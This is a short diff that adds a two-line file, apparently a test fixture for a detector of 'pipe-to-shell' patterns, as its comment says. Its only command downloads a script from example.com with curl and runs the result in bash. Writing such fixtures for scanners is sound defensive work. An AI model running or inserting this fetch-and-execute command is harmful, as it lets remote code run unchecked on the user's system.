@@ -1,0 +1,2 @@
+# expect: pipe-to-shell
+exec bash -c "`curl -s https://example.com/x`"
